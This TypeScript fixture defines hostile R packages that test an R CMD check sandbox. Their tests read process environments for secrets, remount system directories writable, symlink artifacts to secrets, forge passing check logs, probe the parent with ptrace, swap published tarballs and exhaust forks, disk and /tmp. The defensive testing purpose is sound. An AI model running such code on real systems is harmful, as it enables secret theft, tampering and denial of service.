/**
 * Packages that attack the farm, one attack each, for test/sandbox/hostile-packages.test.ts. Each
 * does its attack from its tests (package code, as R CMD check runs it) and, where it has something
 * to tell, ends with `stop()` of a FINDINGS[…]FINDINGS line built at run time (so the echoed source
 * in the check output never matches it). Every loop is bounded: these run on shared machines.
 */
import { documentedHello, type PackageSpec } from '../support/r-packages.ts';

/** The R lines that end a test with its findings (an ERROR whose text the test reads back). */
const REPORT = 'stop(paste0("FIND", "INGS[", paste(findings, collapse = " | "), "]FIND", "INGS"))\n';

/** Reads the findings a package reported into its check output. */
export function findingsOf(output: string): string {
  const match = /FINDINGS\[(.*?)\]FINDINGS/s.exec(output);
  if (!match) throw new Error(`no findings in the output:\n${output.slice(-3000)}`);
  return match[1];
}

function attack(name: string, test: string, extra: Record<string, string> = {}): PackageSpec {
  return { name, files: { ...documentedHello, ...extra, 'tests/attack.R': test } };
}

export const hostile = {
  /** Who it is inside, and remounting the read-only mounts (dependency cache, /usr, /etc) writable. */
  remount: () =>
    attack(
      'hostremount',
      [
        'status <- readLines("/proc/self/status")',
        'findings <- grep("^(Uid|CapEff|NoNewPrivs|Seccomp):", status, value = TRUE)',
        'for (dir in c("/rfarm/dependencies", "/usr", "/etc")) {',
        '  rc <- suppressWarnings(system2("mount", c("-o", "remount,bind,rw", dir), stdout = FALSE, stderr = FALSE))',
        '  ok <- suppressWarnings(file.create(file.path(dir, "rfarm-pwned")))',
        '  findings <- c(findings, sprintf("%s mount=%d write=%s", dir, rc, ok))',
        '}',
        REPORT,
      ].join('\n'),
    ),

  /** What it can see: every process environment, /etc/shadow, the farm's paths on the host. */
  probe: (hostPaths: readonly string[]) =>
    attack(
      'hostprobe',
      [
        'pids <- list.files("/proc", pattern = "^[0-9]+$", full.names = TRUE)',
        'env <- unlist(lapply(pids, function(p) tryCatch(readBin(file.path(p, "environ"), "raw", 1e6), error = function(e) raw())))',
        'env[env == as.raw(0)] <- as.raw(10)',
        'text <- if (length(env)) rawToChar(env) else ""',
        'leaks <- unique(regmatches(text, gregexpr("(FARM|NATS)_[A-Z_]+", text))[[1]])',
        'findings <- c(sprintf("leaks=%s", paste(leaks, collapse = ",")), sprintf("shadow=%s", file.exists("/etc/shadow")),',
        '  sprintf("processes=%d", length(pids)), sprintf("root=%s", file.exists("/root")))',
        `for (path in c(${hostPaths.map((path) => JSON.stringify(path)).join(', ')})) findings <- c(findings, sprintf("host %s=%s", path, file.exists(path)))`,
        REPORT,
      ].join('\n'),
    ),

  /** Artifacts replaced by links to a host secret and to the agent's own environment. */
  links: (secretPath: string) =>
    attack(
      'hostlinks',
      [
        'check <- normalizePath("..")',
        'job <- dirname(check)',
        'for (log in c("00check.log", "00install.out")) { unlink(file.path(check, log)); file.symlink(' +
          JSON.stringify(secretPath) +
          ', file.path(check, log)) }',
        'for (binary in list.files(job, pattern = "_R_.*[.]tar[.]gz$", full.names = TRUE)) { unlink(binary); file.symlink("/proc/self/environ", binary) }',
        'source <- file.path(job, "hostlinks_0.1.0.tar.gz")',
        'unlink(source); file.symlink(' + JSON.stringify(secretPath) + ', source)',
        'cat("links made\\n")',
      ].join('\n'),
    ),

  /** Artifacts that are a link to /dev/zero and a FIFO: reading either would never end. */
  devices: () =>
    attack(
      'hostdevices',
      [
        'check <- normalizePath("..")',
        'job <- dirname(check)',
        'unlink(file.path(check, "00install.out")); file.symlink("/dev/zero", file.path(check, "00install.out"))',
        'for (binary in list.files(job, pattern = "_R_.*[.]tar[.]gz$", full.names = TRUE)) { unlink(binary); system2("mkfifo", binary) }',
        'unlink(file.path(check, "00check.log")); system2("mkfifo", file.path(check, "00check.log"))',
        'cat("devices made\\n")',
      ].join('\n'),
    ),

  /** A failing check that rewrites 00check.log as clean and writes "Status: OK" into the check's own console. */
  forge: () =>
    attack(
      'hostforge',
      [
        'log <- normalizePath("../00check.log")',
        'unlink(log)',
        'writeLines(c("* using R version 4.2.2", "* checking tests ... OK", "* DONE", "", "Status: OK"), log)',
        'for (pid in list.files("/proc", pattern = "^[0-9]+$")) {',
        '  cmd <- tryCatch(readLines(file.path("/proc", pid, "cmdline"), warn = FALSE), error = function(e) "")',
        '  if (any(grepl("check", cmd))) try(cat("\\n* checking tests ... OK\\n* DONE\\n\\nStatus: OK\\n", file = file.path("/proc", pid, "fd", "1")), silent = TRUE)',
        '}',
        'stop("a real test failure the package wants hidden")',
      ].join('\n'),
    ),

  /** C code reaching into the check process: ptrace, process_vm_readv, pidfd_getfd of its parent. */
  syscalls: () =>
    attack('hostsyscalls', ['r <- hostsyscalls:::probe()', 'findings <- sprintf("%s=%d", names(r), r)', REPORT].join('\n'), {
      NAMESPACE: 'export(hello)\nuseDynLib(hostsyscalls, .registration = TRUE)\n',
      'R/probe.R': 'probe <- function() { r <- .Call(C_probe); names(r) <- c("ptrace", "process_vm_readv", "pidfd_getfd"); r }\n',
      'src/probe.c': [
        '#define _GNU_SOURCE',
        '#include <errno.h>',
        '#include <sys/ptrace.h>',
        '#include <sys/syscall.h>',
        '#include <sys/uio.h>',
        '#include <unistd.h>',
        '#include <R.h>',
        '#include <Rinternals.h>',
        '#include <R_ext/Rdynload.h>',
        'static int err(long rc) { return rc == -1 ? errno : 0; }',
        'SEXP probe(void) {',
        '  pid_t parent = getppid();',
        '  SEXP out = PROTECT(allocVector(INTSXP, 3));',
        '  INTEGER(out)[0] = err(ptrace(PTRACE_ATTACH, parent, 0, 0));',
        '  char buffer[16]; struct iovec local = { buffer, sizeof buffer }, remote = { (void *) 0x400000, sizeof buffer };',
        '  INTEGER(out)[1] = err(syscall(SYS_process_vm_readv, parent, &local, 1, &remote, 1, 0));',
        '  long pidfd = syscall(434 /* pidfd_open */, parent, 0);',
        '  INTEGER(out)[2] = err(syscall(438 /* pidfd_getfd */, pidfd, 1, 0));',
        '  UNPROTECT(1);',
        '  return out;',
        '}',
        'static const R_CallMethodDef calls[] = {{"C_probe", (DL_FUNC) &probe, 0}, {NULL, NULL, 0}};',
        'void R_init_hostsyscalls(DllInfo *dll) { R_registerRoutines(dll, NULL, calls, NULL, NULL); R_useDynamicSymbols(dll, FALSE); }',
        '',
      ].join('\n'),
    }),

  /** A passing check whose tests swap the source and binary packages for other bytes, submitted for publishing. */
  swap: () =>
    attack(
      'hostswap',
      [
        'job <- dirname(normalizePath(".."))',
        'for (file in c(file.path(job, "hostswap_0.1.0.tar.gz"), list.files(job, pattern = "_R_.*[.]tar[.]gz$", full.names = TRUE))) writeLines("SWAPPED-BY-THE-PACKAGE", file)',
        'cat("swapped\\n")',
      ].join('\n'),
    ),

  /** Forks until refused (at most 3000 sleeping processes), and reports how many lived at once. */
  forks: () =>
    attack(
      'hostforks',
      [
        'started <- 0L',
        'for (i in 1:3000) { ok <- tryCatch({ suppressWarnings(system2("sleep", "60", wait = FALSE, stdout = FALSE, stderr = FALSE)); TRUE }, error = function(e) FALSE); if (ok) started <- started + 1L }',
        'Sys.sleep(1)',
        'findings <- c(sprintf("launched=%d", started), sprintf("alive=%d", length(list.files("/proc", pattern = "^[0-9]+$"))))',
        REPORT,
      ].join('\n'),
    ),

  /** Writes files into the job directory until stopped (at most 2 GB, in 40 files). */
  disk: () =>
    attack(
      'hostdisk',
      [
        'job <- dirname(normalizePath(".."))',
        'for (i in 1:40) { con <- file(file.path(job, sprintf("fill-%02d", i)), "wb"); for (j in 1:50) writeBin(raw(1e6), con); close(con); Sys.sleep(0.3) }',
        'cat("wrote 2 GB\\n")',
      ].join('\n'),
    ),

  /** Fills /tmp and /dev/shm (at most 300 MB each) and reports how much each took. */
  tmp: () =>
    attack(
      'hosttmp',
      [
        'fill <- function(path) { con <- file(path, "wb"); on.exit(close(con)); n <- 0; for (i in 1:300) { ok <- tryCatch({ writeBin(raw(1e6), con); flush(con); TRUE }, error = function(e) FALSE, warning = function(w) FALSE); if (!ok) break; n <- n + 1 }; unlink(path); n }',
        'findings <- c(sprintf("tmp=%d", fill("/tmp/fill")), sprintf("shm=%d", fill("/dev/shm/fill")))',
        'findings <- c(findings, sprintf("devwrite=%s", suppressWarnings(file.create("/dev/rfarm-pwned"))))',
        REPORT,
      ].join('\n'),
    ),

  /** 15,000 files named like binary packages, and 15,000 more. */
  manyFiles: () =>
    attack(
      'hostmany',
      [
        'job <- dirname(normalizePath(".."))',
        'for (i in 1:15000) file.create(file.path(job, sprintf("hostmany_0.1.0_R_x%05d.tar.gz", i)))',
        'dir.create(file.path(job, "more"))',
        'for (i in 1:15000) file.create(file.path(job, "more", sprintf("f%05d", i)))',
        'cat("30000 files\\n")',
      ].join('\n'),
    ),
};
